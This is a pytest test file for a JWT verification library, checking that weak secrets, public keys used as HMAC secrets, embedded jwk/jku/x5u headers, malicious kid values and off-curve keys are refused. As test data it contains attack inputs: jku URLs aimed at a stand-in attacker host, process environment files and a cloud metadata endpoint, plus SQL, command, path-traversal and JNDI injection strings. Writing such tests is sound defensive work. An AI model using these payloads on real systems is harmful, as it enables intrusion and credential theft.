"""Attacks through keys: weak ones, wrong ones, and those that a token brings along."""

from __future__ import annotations

import hmac
import json
from typing import Any

import pytest

from cwsauth.errors import ConfigError, TokenInvalid
from cwsauth.tokens import JWT
from tests.oidc import AUDIENCE, ISSUER, SECRET, bearing, claims, encoded, forge, jwk, pem, private_key, public, text


def verifier(algorithms: Any = "RS256", **keys: Any) -> JWT:
    return JWT(issuer=ISSUER, audience=AUDIENCE, algorithms=algorithms, **keys)


def refused(auth: JWT, token: str) -> str:
    with pytest.raises(TokenInvalid) as caught:
        auth.verify(bearing(token))
    return caught.value.reason


PUBLIC = public(private_key("RSA"))
PUBLIC_JWK = jwk(PUBLIC)
NOT_SECRETS: dict[str, Any] = {
    "a public key": pem(PUBLIC).encode(),
    "a public key on one line": pem(PUBLIC).replace("\n", "").encode(),
    "a public key behind text": b"key: " + pem(PUBLIC).encode(),
    "a public key with Windows lines": pem(PUBLIC).replace("\n", "\r\n").encode(),
    "a private key": pem(private_key("RSA")).encode(),
    "a JWK": text(PUBLIC_JWK),
    "a JWK in UTF-16": json.dumps(PUBLIC_JWK).encode("utf-16"),
    "a JWK behind white space": b" \n\t" + text(PUBLIC_JWK),
    "a JWK set": text({"keys": [PUBLIC_JWK]}),
    "a JWK in a list": text([PUBLIC_JWK]),
    "a JWK nested deeply": text({"a": {"b": [{"c": PUBLIC_JWK}]}}),
    "a symmetric JWK": text({"kty": "oct", "k": encoded(SECRET)}),
}


@pytest.mark.parametrize("name", NOT_SECRETS)
def test_a_key_that_is_public_is_no_secret(name: str) -> None:
    """CVE-2026-48526 (GHSA-xgmm-8j9v-c9wx: JWK as HMAC secret), CVE-2026-102273 (nested), CVE-2022-29217 (PEM, variants)."""
    with pytest.raises(ConfigError) as caught:
        verifier("HS256", secret=NOT_SECRETS[name])
    assert "BEGIN" not in str(caught.value)


def test_a_certificate_is_no_secret() -> None:
    """The same with DER: a public key or a certificate as bytes."""
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    with pytest.raises(ConfigError):
        verifier("HS256", secret=PUBLIC.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo))


@pytest.mark.parametrize("algorithm", ["HS256", "HS384", "HS512"])
def test_empty_and_short_secrets(algorithm: str) -> None:
    """CVE-2026-102266 (empty HMAC key), CVE-2025-45768 (weak keys): as many bytes as the hash has, or none at all."""
    length = int(algorithm[2:]) // 8
    assert verifier(algorithm, secret=b"x" * length)
    for short in (b"x" * (length - 1), b"x"):
        with pytest.raises(ConfigError, match="fewer"):
            verifier(algorithm, secret=short)
    empty = verifier(algorithm, secret=b"")
    assert refused(empty, forge(claims(), algorithm, b"")) == "no secret is set"


def test_an_unset_secret_accepts_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    """The classic of `os.getenv("JWT_SECRET", "")`: a token that is signed with nothing."""
    monkeypatch.delenv("JWT_SECRET", raising=False)
    auth = verifier("HS256", secret="JWT_SECRET")
    for value in ("", " ", "\n"):
        monkeypatch.setenv("JWT_SECRET", value)
        with pytest.raises((TokenInvalid, ConfigError)):
            auth.verify(bearing(forge(claims(), key=value.encode())))
    for name in (b"JWT_SECRET", b"None", b"null", b"secret"):
        monkeypatch.delenv("JWT_SECRET", raising=False)
        refused(auth, forge(claims(), key=name))


def test_small_and_huge_rsa_keys() -> None:
    """NIST SP 800-131A: 2048 bits at least; and no more than 8192, because each verification is the square of it."""
    with pytest.raises(ConfigError):
        verifier(key=public(private_key("RSA-1024")))
    huge = {"kty": "RSA", "e": "AQAB", "n": encoded(b"\xff" * 2100)}
    with pytest.raises(ConfigError):
        verifier(key=huge)


def embedded(**header: Any) -> str:
    """A token of an attacker's key that brings something along."""
    return forge(claims(), "RS256", private_key("RSA", 1), **header)


ATTACKER = public(private_key("RSA", 1))


@pytest.mark.parametrize(
    "header",
    [
        {"jwk": jwk(ATTACKER)},
        {"jwk": jwk(ATTACKER), "kid": "k1"},
        {"x5c": ["MIIB"]},
        {"jku": "https://evil.example/keys"},
        {"jku": "file:///proc/self/environ"},
        {"jku": "http://169.254.169.254/latest/meta-data"},
        {"x5u": "https://evil.example/cert"},
        {"iss": ISSUER, "aud": AUDIENCE},
    ],
    ids=["jwk", "jwk with a known kid", "x5c", "jku", "jku of a file", "jku of the instance", "x5u", "claims"],
)
def test_keys_that_a_token_brings_along(header: dict[str, Any]) -> None:
    """CVE-2018-0114, CVE-2026-27962 (embedded `jwk`), and `jku`, `x5u`, `x5c`: our own keys verify, and nothing is fetched."""
    auth = verifier(key={"k1": PUBLIC})
    reason = refused(auth, embedded(**{"kid": "k1", **header}))
    assert reason == "the signature is not one of a key of the issuer"


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../dev/null",
        "/dev/null",
        "' OR 1=1 --",
        "k1' UNION SELECT 'x",
        "k1|/usr/bin/id",
        "k1\u0000",
        "k1\n",
        " k1",
        "K1",
        "${jndi:ldap://evil.example}",
        "__class__",
        "k" * 10_000,
    ],
)
def test_kid_is_only_a_name(kid: str) -> None:
    """Path traversal, SQL and command injection by `kid`: it is looked up in a dict, and nowhere else."""
    auth = verifier(key={"k1": PUBLIC, "k2": public(private_key("RSA", 2))})
    assert refused(auth, forge(claims(), "RS256", private_key("RSA"), kid=kid)) == "no key is known for this token"


@pytest.mark.parametrize("kid", [1, 1.5, True, None, [], ["k1"], {"k1": 1}, ""])
def test_kid_of_another_type(kid: object) -> None:
    """What is no string is refused before it is looked for."""
    auth = verifier(key={"k1": PUBLIC})
    assert "kid" in refused(auth, forge(claims(), "RS256", header={"alg": "RS256", "kid": kid}))


def test_a_kid_of_another_issuer() -> None:
    """A key of one issuer does not verify tokens of another, though it has the same name."""
    one, two = private_key("RSA"), private_key("RSA", 1)
    auth = JWT(
        issuer={"https://a.example": {"k": public(one)}, "https://b.example": {"k": public(two)}},
        audience=AUDIENCE,
        algorithms="RS256",
    )
    assert auth.verify(bearing(forge(claims(iss="https://a.example"), "RS256", one, kid="k")))
    refused(auth, forge(claims(iss="https://b.example"), "RS256", one, kid="k"))


def test_private_keys_are_refused() -> None:
    """CVE-2026-102275 class: a private JWK need not match its public half; none is needed, so none is taken."""
    private = json.loads(json.dumps(jwk(PUBLIC)))
    for member in ("d", "p", "q", "dp", "dq", "qi", "oth"):
        with pytest.raises(ConfigError):
            verifier(key={**private, member: "AQAB"})
    okp = jwk(public(private_key("Ed25519")))
    with pytest.raises(ConfigError):
        verifier("EdDSA", key={**okp, "d": okp["x"]})
    for key in (private_key("RSA"), pem(private_key("RSA"))):
        with pytest.raises(ConfigError, match="private"):
            verifier(key=key)


@pytest.mark.parametrize(
    "changed",
    [
        {"x": "AA"},
        {"x": ""},
        {"x": None},
        {"x": 1},
        {"x": ["AA"]},
        {"crv": "P-384"},
        {"crv": "Curve25519"},
        {"crv": None},
        {"kty": "RSA"},
        {"kty": ["EC"]},
        {"kty": None},
        {"y": encoded(b"\x01" * 32)},
    ],
    ids=repr,
)
def test_points_off_the_curve(changed: dict[str, Any]) -> None:
    """CVE-2015-7940 class (invalid curve), and members of another type: no key."""
    with pytest.raises(ConfigError):
        verifier("ES256", key={**jwk(public(private_key("P-256"))), **changed})


def test_a_secret_that_is_compared_in_constant_time(monkeypatch: pytest.MonkeyPatch) -> None:
    """Timing: what decides is `hmac.compare_digest` of whole digests, whose time does not depend on where two differ."""
    compared: list[tuple[bytes, bytes]] = []
    compare = hmac.compare_digest

    def watched(left: bytes, right: bytes) -> bool:
        compared.append((left, right))
        return compare(left, right)

    monkeypatch.setattr("hmac.compare_digest", watched)
    auth = verifier("HS256", secret=SECRET)
    head, _, signature = forge(claims()).rpartition(".")
    for wrong in (signature[:-2] + "AA", "AA" + signature[2:]):
        with pytest.raises(TokenInvalid):
            auth.verify(bearing(f"{head}.{wrong}"))
    assert len(compared) == 2
    assert {len(part) for pair in compared for part in pair} == {32}
